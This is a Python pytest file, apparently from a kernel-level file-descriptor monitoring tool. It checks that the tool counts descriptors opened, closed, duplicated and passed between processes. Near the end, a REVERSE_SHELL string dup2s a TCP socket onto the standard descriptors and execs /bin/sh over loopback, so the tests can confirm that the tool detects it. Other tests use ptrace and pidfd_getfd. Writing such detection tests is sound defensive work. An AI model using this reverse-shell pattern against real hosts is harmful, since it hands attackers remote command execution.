# SPDX-License-Identifier: GPL-2.0-only
"""Known numbers of descriptors, opened and closed in every way, on the running kernel."""

import array
import ctypes
import fcntl
import os
import signal
import socket
import struct
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Mapping

import pytest

from probes.selftest.calls import buffer, call
from probes.session import Session
from probes.snapshot import Amount, Via
from probes.source import PASSED_FDS_A_CALL
from probes.taxonomy import (
    Account,
    Birth,
    Cause,
    Connection,
    DebugMethod,
    FdType,
    Loss,
    Mode,
    Passing,
    Stdio,
)
from tests.kernel.conftest import Counted, Run, in_child, of_tgid
from tests.kernel.test_fd_types import bpf_map, fanotify, perf_event

LIBC = ctypes.CDLL(None, use_errno=True)
O_CLOEXEC = os.O_CLOEXEC


def count(counted: Counted, account: Account, fd_type: FdType, via: Via) -> int:
    return counted.get((account, fd_type, via, 0), Amount(0, 0)).operations


def opened(counted: Counted, fd_type: FdType, birth: Birth) -> int:
    return count(counted, Account.FD_OPENED, fd_type, birth)


def closed(counted: Counted, fd_type: FdType, cause: Cause) -> int:
    return count(counted, Account.FD_CLOSED, fd_type, cause)


def balance(counted: Counted) -> Mapping[FdType, int]:
    """Opened less closed, by fd type, where that is not 0."""
    sums: dict[FdType, int] = {}
    for (account, fd_type, _, _), amount in counted.items():
        sign = {Account.FD_OPENED: 1, Account.FD_CLOSED: -1}.get(account, 0)
        sums[fd_type] = sums.get(fd_type, 0) + sign * amount.operations
    return {fd_type: n for fd_type, n in sums.items() if n}


def tcp_pair() -> tuple[socket.socket, socket.socket, socket.socket]:
    """A listening socket, and both ends of a connection over loopback."""
    listener = socket.create_server(("127.0.0.1", 0))
    client = socket.create_connection(listener.getsockname())
    server, _ = listener.accept()
    return listener, client, server


def file_and_directory() -> None:
    for _ in range(7):
        os.open("/proc/self/stat", os.O_RDONLY)
    for _ in range(3):
        os.open("/", os.O_RDONLY)


def sockets() -> None:
    for _ in range(5):
        socket.socket(socket.AF_INET, socket.SOCK_STREAM).detach()
    for _ in range(4):
        socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).detach()
    socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).detach()
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0).detach()
    for _ in range(3):
        for end in socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM):
            end.detach()


def anonymous() -> None:
    for _ in range(5):
        os.eventfd(0)
    call("epoll_create1", 0)
    LIBC.timerfd_create(time.CLOCK_MONOTONIC, 0)
    mask = (ctypes.c_ulong * 16)(1 << (signal.SIGUSR1 - 1))
    fd = LIBC.signalfd(-1, mask, 0)
    assert LIBC.signalfd(fd, mask, 0) == fd  # changes the one that is there
    LIBC.inotify_init()
    fanotify()
    os.memfd_create("life")
    os.pidfd_open(os.getpid())
    call("io_uring_setup", 1, buffer(120))
    call("userfaultfd", 0)
    bpf_map()
    perf_event()


ANONYMOUS = (
    FdType.EVENTPOLL,
    FdType.TIMERFD,
    FdType.SIGNALFD,
    FdType.INOTIFY,
    FdType.FANOTIFY,
    FdType.MEMFD,
    FdType.PIDFD,
    FdType.IO_URING,
    FdType.USERFAULTFD,
    FdType.BPF,
    FdType.PERF_EVENT,
)


def test_files_and_directories(run: Run) -> None:
    counted = run(file_and_directory)
    assert opened(counted, FdType.REGULAR, Birth.OPEN) == 7
    assert opened(counted, FdType.DIRECTORY, Birth.OPEN) == 3
    assert closed(counted, FdType.DIRECTORY, Cause.EXIT) == 3
    assert balance(counted) == {}


def test_sockets_of_every_family(run: Run) -> None:
    counted = run(sockets)
    born = {t: opened(counted, t, Birth.SOCKET) for t in FdType}
    assert {t: n for t, n in born.items() if n} == {
        FdType.TCP: 5,
        FdType.UDP: 4,
        FdType.NETLINK: 1,
        FdType.PACKET: 1,
        FdType.UNIX_DGRAM: 6,
    }
    assert balance(counted) == {}


def test_what_has_no_path(run: Run) -> None:
    counted = run(anonymous)
    assert opened(counted, FdType.EVENTFD, Birth.ANONYMOUS) == 5
    born = {fd_type: opened(counted, fd_type, Birth.ANONYMOUS) for fd_type in ANONYMOUS}
    assert born == dict.fromkeys(ANONYMOUS, 1)
    assert balance(counted) == {}


def test_pipes_and_terminals(run: Run) -> None:
    def work() -> None:
        for _ in range(3):
            os.pipe()
        os.openpty()

    counted = run(work)
    assert opened(counted, FdType.FIFO, Birth.PIPE) == 6
    assert opened(counted, FdType.TTY, Birth.OPEN) + opened(counted, FdType.TTY, Birth.IOCTL) == 2
    assert balance(counted) == {}


def test_closed_by_close_and_close_range(run: Run) -> None:
    def work() -> None:
        fds = [os.eventfd(0) for _ in range(23)]
        for fd in fds[:11]:
            os.close(fd)
        with pytest.raises(OSError, match="Bad file descriptor"):
            os.close(fds[0])
        call("close_range", fds[11], fds[19], 0)
        with pytest.raises(OSError, match="Invalid argument"):
            call("close_range", fds[20], fds[19], 0)

    counted = run(work)
    assert closed(counted, FdType.EVENTFD, Cause.CLOSE) == 20
    assert closed(counted, FdType.EVENTFD, Cause.EXIT) == 3


def test_duplicates(run: Run) -> None:
    def work() -> None:
        fd = os.eventfd(0)
        os.dup(fd)
        fcntl.fcntl(fd, fcntl.F_DUPFD, 100)
        fcntl.fcntl(fd, fcntl.F_DUPFD_CLOEXEC, 100)
        fcntl.fcntl(fd, fcntl.F_GETFD)
        read_fd, write_fd = os.pipe()
        os.dup2(fd, 200)  # a number that is free
        os.dup2(read_fd, 200)  # one that is not
        os.dup2(fd, fd)  # nothing happens
        call("dup3", fd, write_fd, 0)

    counted = run(work)
    assert opened(counted, FdType.EVENTFD, Birth.DUP) == 5
    assert opened(counted, FdType.FIFO, Birth.DUP) == 1
    assert closed(counted, FdType.EVENTFD, Cause.REPLACED) == 1
    assert closed(counted, FdType.FIFO, Cause.REPLACED) == 1
    assert balance(counted) == {}


def test_fork_and_exec(session: Session) -> None:
    """What the child inherits, and what exec takes away."""
    read_fd, write_fd = os.pipe()

    def work() -> None:
        for _ in range(4):
            os.eventfd(0, 0)  # stays over exec
        for _ in range(3):
            os.eventfd(0, os.EFD_CLOEXEC)
        pid = os.fork()
        if pid == 0:
            os.execv("/bin/true", ["true"])  # noqa: S606
        os.waitpid(pid, 0)
        os.write(write_fd, str(pid).encode())

    in_child(work)
    grandchild = int(os.read(read_fd, 20))
    os.close(read_fd)
    os.close(write_fd)
    counted = of_tgid(session.snapshot(), grandchild)
    assert opened(counted, FdType.EVENTFD, Birth.FORK) == 7
    assert closed(counted, FdType.EVENTFD, Cause.EXEC) == 3
    assert closed(counted, FdType.EVENTFD, Cause.EXIT) == 4
    assert balance(counted) == {}


def test_an_exec_that_fails_closes_nothing(run: Run) -> None:
    def work() -> None:
        for _ in range(3):
            os.eventfd(0, os.EFD_CLOEXEC)
        with pytest.raises(FileNotFoundError):
            os.execv("/nowhere", ["nowhere"])  # noqa: S606

    counted = run(work)
    assert closed(counted, FdType.EVENTFD, Cause.EXEC) == 0
    assert closed(counted, FdType.EVENTFD, Cause.EXIT) == 3


def test_a_table_that_threads_share_ends_once(run: Run) -> None:
    def work() -> None:
        for _ in range(5):
            os.eventfd(0)
        for _ in range(8):
            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()

    for _ in range(5):
        counted = run(work)
        assert closed(counted, FdType.EVENTFD, Cause.EXIT) == 5
        assert balance(counted) == {}


def test_thousands_of_fds(session: Session, run: Run) -> None:
    def work() -> None:
        import resource

        resource.setrlimit(resource.RLIMIT_NOFILE, (12_000, 12_000))
        fd = os.eventfd(0)
        for _ in range(9_999):
            os.dup(fd)

    unseen = session.snapshot().losses[Loss.FDS_UNSEEN]
    counted = run(work)
    assert opened(counted, FdType.EVENTFD, Birth.DUP) == 9_999
    assert closed(counted, FdType.EVENTFD, Cause.EXIT) == 10_000
    assert session.snapshot().losses[Loss.FDS_UNSEEN] == unseen


def send_fds(sock: socket.socket, fds: list[int]) -> None:
    socket.send_fds(sock, [b"x"], fds)


@pytest.mark.parametrize("number", [1, 7, PASSED_FDS_A_CALL])
def test_passed_through_a_unix_socket(number: int, run: Run) -> None:
    def work() -> None:
        ours, theirs = socket.socketpair()
        fds = [os.eventfd(0)] * (number - 1) + [ours.fileno()]
        socket.send_fds(ours, [b"x"], fds)
        received = socket.recv_fds(theirs, 10, number)[1]
        assert len(received) == number

    counted = run(work)
    for fd_type, expected in ((FdType.EVENTFD, number - 1), (FdType.UNIX_STREAM, 1)):
        assert count(counted, Account.FD_PASSED, fd_type, Passing.SENT) == expected
        assert count(counted, Account.FD_PASSED, fd_type, Passing.RECEIVED) == expected
        assert opened(counted, fd_type, Birth.SCM_RIGHTS) == expected
    assert balance(counted) == {}


def test_most_that_a_message_can_pass(run: Run, session: Session) -> None:
    number = 253

    def work() -> None:
        ours, theirs = socket.socketpair()
        socket.send_fds(ours, [b"x"], [os.eventfd(0)] * number)
        assert len(socket.recv_fds(theirs, 10, number)[1]) == number

    before = session.snapshot().losses[Loss.FDS_UNSEEN]
    counted = run(work)
    unseen = session.snapshot().losses[Loss.FDS_UNSEEN] - before
    sent = count(counted, Account.FD_PASSED, FdType.EVENTFD, Passing.SENT)
    assert (sent, unseen) == (
        (number, 0)
        if session.mode is Mode.TRACEPOINT
        else (PASSED_FDS_A_CALL, number - PASSED_FDS_A_CALL)
    )
    assert count(counted, Account.FD_PASSED, FdType.EVENTFD, Passing.RECEIVED) == number


def test_messages_without_fds_pass_none(run: Run) -> None:
    def work() -> None:
        ours, theirs = socket.socketpair()
        credentials = struct.pack("iII", os.getpid(), 0, 0)
        theirs.setsockopt(socket.SOL_SOCKET, socket.SO_PASSCRED, 1)
        ours.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_CREDENTIALS, credentials)])
        theirs.recvmsg(10, 1000)
        ours.sendmsg([b"x"])
        theirs.recvmsg(10)

    counted = run(work)
    assert not any(key[0] is Account.FD_PASSED for key in counted)


def test_several_control_messages(run: Run) -> None:
    def work() -> None:
        ours, theirs = socket.socketpair()
        rights = array.array("i", [os.eventfd(0), os.eventfd(0)])
        credentials = struct.pack("iII", os.getpid(), 0, 0)
        ours.sendmsg(
            [b"x"],
            [
                (socket.SOL_SOCKET, socket.SCM_CREDENTIALS, credentials),
                (socket.SOL_SOCKET, socket.SCM_RIGHTS, rights),
            ],
        )
        assert socket.recv_fds(theirs, 10, 5)[1]

    counted = run(work)
    assert count(counted, Account.FD_PASSED, FdType.EVENTFD, Passing.SENT) == 2
    assert count(counted, Account.FD_PASSED, FdType.EVENTFD, Passing.RECEIVED) == 2


def test_both_ends_of_a_connection(run: Run) -> None:
    def work() -> None:
        for _ in range(3):
            tcp_pair()
        path = f"/tmp/fdscope-life-{os.getpid()}"  # noqa: S108
        listener = socket.socket(socket.AF_UNIX)
        listener.bind(path)
        listener.listen()
        socket.socket(socket.AF_UNIX).connect(path)
        listener.accept()
        os.unlink(path)  # noqa: PTH108
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).connect(("127.0.0.1", 9))
        with pytest.raises(ConnectionRefusedError):
            socket.socket().connect(("127.0.0.1", 1))

    counted = run(work)
    for fd_type, via, expected in (
        (FdType.TCP, Connection.CONNECT_LOOPBACK, 3),
        (FdType.TCP, Connection.ACCEPT_LOOPBACK, 3),
        (FdType.UNIX_STREAM, Connection.CONNECT_LOCAL, 1),
        (FdType.UNIX_STREAM, Connection.ACCEPT_LOCAL, 1),
        (FdType.UDP, Connection.CONNECT_LOOPBACK, 1),
    ):
        assert count(counted, Account.CONNECTION, fd_type, via) == expected, (fd_type, via)
    assert opened(counted, FdType.TCP, Birth.ACCEPT) == 3


def test_a_connection_that_is_not_waited_for(run: Run) -> None:
    def work() -> None:
        listener = socket.create_server(("127.0.0.1", 0))
        client = socket.socket()
        client.setblocking(False)
        client.connect_ex(listener.getsockname())

    counted = run(work)
    assert count(counted, Account.CONNECTION, FdType.TCP, Connection.CONNECT_LOOPBACK) == 1


def close_and_duplicate(sock: socket.socket, fd: int) -> None:
    os.close(fd)
    fcntl.fcntl(sock.fileno(), fcntl.F_DUPFD, fd)


@pytest.mark.parametrize(
    "put",
    [
        lambda sock, fd: os.dup2(sock.fileno(), fd),
        lambda sock, fd: call("dup3", sock.fileno(), fd, 0),
        close_and_duplicate,
    ],
    ids=["dup2", "dup3", "fcntl"],
)
def test_a_socket_on_the_standard_fds(
    put: Callable[[socket.socket, int], object], run: Run
) -> None:
    def work() -> None:
        _, client, _ = tcp_pair()
        for fd in range(3):
            put(client, fd)

    counted = run(work)
    for fd in Stdio:
        assert count(counted, Account.STDIO_SOCKET, FdType.TCP, fd) == 1


def waiting_child() -> int:
    pid = os.fork()
    if pid == 0:
        signal.pause()
        os._exit(0)
    return pid


def test_debugger_like_access(run: Run) -> None:
    def work() -> None:
        target = waiting_child()
        pidfd = os.pidfd_open(target)
        for _ in range(3):
            os.close(call("pidfd_getfd", pidfd, 1, 0))
        with pytest.raises(OSError, match="Bad file descriptor"):
            call("pidfd_getfd", pidfd, 9999, 0)
        assert LIBC.ptrace(0x4206, target, 0, 0) == 0  # PTRACE_SEIZE
        assert LIBC.ptrace(16, target, 0, 0) == -1  # PTRACE_ATTACH: it is traced already
        other = waiting_child()
        assert LIBC.ptrace(16, other, 0, 0) == 0
        for pid in (target, other):
            os.kill(pid, signal.SIGKILL)
            os.waitpid(pid, 0)

    counted = run(work)
    for method, expected in (
        (DebugMethod.PIDFD_GETFD, 3),
        (DebugMethod.PTRACE_SEIZE, 1),
        (DebugMethod.PTRACE_ATTACH, 1),
    ):
        assert count(counted, Account.DEBUG_ACCESS, FdType.OTHER, method) == expected


REVERSE_SHELL = """
import os, socket, sys
client = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
for fd in range(3):
    os.dup2(client.fileno(), fd)
os.execv("/bin/sh", ["sh"])
"""


def test_a_shell_on_a_socket_that_lives_a_moment(session: Session) -> None:
    """The event tells of it when no census has seen it."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        port = str(listener.getsockname()[1])
        shell = subprocess.Popen([sys.executable, "-c", REVERSE_SHELL, port])
        server, _ = listener.accept()
        server.sendall(b"echo $((6 * 7))\n")
        assert server.recv(10) == b"42\n"
        server.close()
        shell.wait()
    counted = of_tgid(session.snapshot(), shell.pid)
    assert [count(counted, Account.STDIO_SOCKET, FdType.TCP, fd) for fd in Stdio] == [1, 1, 1]
    assert count(counted, Account.CONNECTION, FdType.TCP, Connection.CONNECT_LOOPBACK) == 1


def test_a_pidfd_of_clone(run: Run) -> None:
    def work() -> None:
        pidfd = ctypes.c_int(-1)
        flags = 0x1000 | signal.SIGCHLD  # CLONE_PIDFD
        libc = ctypes.PyDLL(None)
        pid = libc.syscall(56, flags, 0, ctypes.byref(pidfd), 0, 0)
        if pid == 0:
            os._exit(0)
        assert pidfd.value >= 0
        os.waitpid(pid, 0)

    import platform

    if platform.machine() != "x86_64":
        pytest.skip("the order of clone's arguments is that of x86-64 here")
    counted = run(work)
    assert opened(counted, FdType.PIDFD, Birth.ANONYMOUS) == 1
